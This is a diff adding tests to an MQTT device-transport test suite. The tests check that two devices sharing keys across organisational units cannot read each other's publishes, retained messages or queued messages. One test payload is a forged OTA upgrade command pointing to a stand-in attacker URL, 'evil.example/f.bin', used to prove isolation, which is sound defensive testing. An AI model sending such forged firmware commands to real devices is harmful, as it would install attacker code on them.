@@ -49,7 +49,14 @@ afterEach(async () => {
   vi.clearAllMocks();
 });
 
-type ConnectOptions = { secret?: string; productKey?: string; signMethod?: MqttSignMethod; clientId?: string };
+type ConnectOptions = {
+  secret?: string;
+  productKey?: string;
+  signMethod?: MqttSignMethod;
+  clientId?: string;
+  timestamp?: string;
+  clean?: boolean;
+};
 
 async function connect(device: FakeDevice, options: ConnectOptions = {}): Promise<MqttClient> {
   const client = await connectTestDevice(
@@ -154,6 +161,56 @@ describe('topic authorization', () => {
     await waitFor(() => fake.of('offline', inv1.ref.deviceId).length === 1);
     expect(fake.of('message')).toHaveLength(0);
     expect(victimInbox).toHaveLength(0);
+  });
+});
+
+describe('devices with the same keys in two OUs', () => {
+  const upgradeTopic = '/sys/smart-inverter/inv-0001/ota/device/upgrade';
+  const forged = JSON.stringify({
+    id: 'forged',
+    version: '1.0',
+    method: 'ota.device.upgrade',
+    params: { ...command, messageId: undefined, fileUrl: 'http://evil.example/f.bin' },
+  });
+
+  it('never get each other’s publishes, and the real push still arrives', async () => {
+    const victim = await connectOnline(inv1);
+    const received = inbox(victim);
+    await victim.subscribeAsync(upgradeTopic, { qos: 1 });
+    await victim.subscribeAsync('/sys/smart-inverter/inv-0001/#', { qos: 1 });
+    const twin = await connectOnline(inv1OtherOu);
+    await twin.publishAsync(upgradeTopic, forged, { qos: 1 });
+    await twin.publishAsync(`${informTopic}_reply`, JSON.stringify({ id: 'x', code: 200, data: {} }), { qos: 0 });
+    await twin.publishAsync(upgradeTopic, forged, { qos: 0 });
+    expect(await transport.push(inv1.ref, command)).toBe('sent');
+    await waitFor(() => received.length >= 1);
+    await new Promise((r) => setTimeout(r, 100));
+    expect(received).toEqual([[upgradeTopic, expect.objectContaining({ id: '5:1' })]]);
+  });
+
+  it('never get a retained publish of the other, nor one queued for an offline persistent session', async () => {
+    const persistent = await connect(inv1, { timestamp: '2', clean: false });
+    await persistent.subscribeAsync(upgradeTopic, { qos: 1 });
+    await persistent.endAsync();
+    const twin = await connect(inv1OtherOu, { timestamp: '1' });
+    await twin.publishAsync(upgradeTopic, forged, { qos: 1, retain: true });
+    const back = await connect(inv1, { timestamp: '2', clean: false });
+    const received = inbox(back);
+    await back.subscribeAsync(upgradeTopic, { qos: 1 });
+    await new Promise((r) => setTimeout(r, 150));
+    expect(received).toHaveLength(0);
+  });
+
+  it('can connect with the very same client id without knocking each other off', async () => {
+    // Both send `inv-0001|securemode=2,signmethod=hmacsha256,timestamp=1732681234567|`.
+    const first = await connect(inv1, { timestamp: '1732681234567' });
+    const second = await connect(inv1OtherOu, { timestamp: '1732681234567' });
+    await waitFor(() => fake.of('online').length === 2);
+    await new Promise((r) => setTimeout(r, 100));
+    expect(first.connected && second.connected).toBe(true);
+    expect(fake.of('offline')).toHaveLength(0);
+    expect(await transport.push(inv1.ref, command)).toBe('sent');
+    expect(await transport.push(inv1OtherOu.ref, command)).toBe('sent');
   });
 });
 
